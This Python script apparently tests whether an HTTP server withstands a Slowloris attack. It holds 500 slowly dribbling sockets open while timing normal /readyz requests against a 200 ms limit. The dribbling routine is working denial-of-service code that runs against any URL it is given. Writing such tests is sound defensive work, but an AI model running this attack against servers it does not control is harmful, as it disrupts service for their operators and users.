#!/usr/bin/env python3
"""Slowloris: 500 sockets that send their header a byte at a time; a normal request is still answered within 200 ms.

usage: slowloris.py HTTP_URL [SOCKETS] [SECONDS]

The server must run already. Closed sockets are opened again, as an attacker would.
"""
import http.client, socket, sys, threading, time, urllib.parse

LIMIT_MS = 200
BEGINNING = b"GET /readyz HTTP/1.1\r\nHost: localhost\r\nX-Slow: "


def main():
    url = urllib.parse.urlsplit(sys.argv[1])
    count = int(sys.argv[2]) if len(sys.argv) > 2 else 500
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 30
    address, end, reopened, held = (url.hostname, url.port), time.monotonic() + seconds, [0], [0]

    def connect():
        slow = socket.create_connection(address, timeout=5)
        slow.sendall(BEGINNING)
        slow.setblocking(False)
        return slow

    def dribble():
        sockets = []
        while time.monotonic() < end:
            while len(sockets) < count:
                sockets.append(connect())
            held[0] = len(sockets)
            for slow in list(sockets):
                try:
                    slow.send(b"x")
                    if slow.recv(1) == b"":
                        raise OSError("closed")
                except BlockingIOError:
                    pass
                except OSError:
                    slow.close()
                    sockets.remove(slow)
                    reopened[0] += 1
            time.sleep(0.5)

    attack = threading.Thread(target=dribble, daemon=True)
    attack.start()
    time.sleep(2)
    took = []
    while time.monotonic() < end:
        begun = time.monotonic()
        connection = http.client.HTTPConnection(*address, timeout=10)
        connection.request("GET", "/readyz")
        status = connection.getresponse().status
        connection.close()
        took.append((time.monotonic() - begun) * 1000)
        if status not in (200, 503):
            sys.exit(f"answered {status}")
        time.sleep(0.1)
    took.sort()
    print(f"{held[0]} dribbling sockets, {reopened[0]} opened again; {len(took)} requests: median {took[len(took) // 2]:.1f} ms, slowest {took[-1]:.1f} ms")
    sys.exit(took[-1] > LIMIT_MS or held[0] < count)


main()
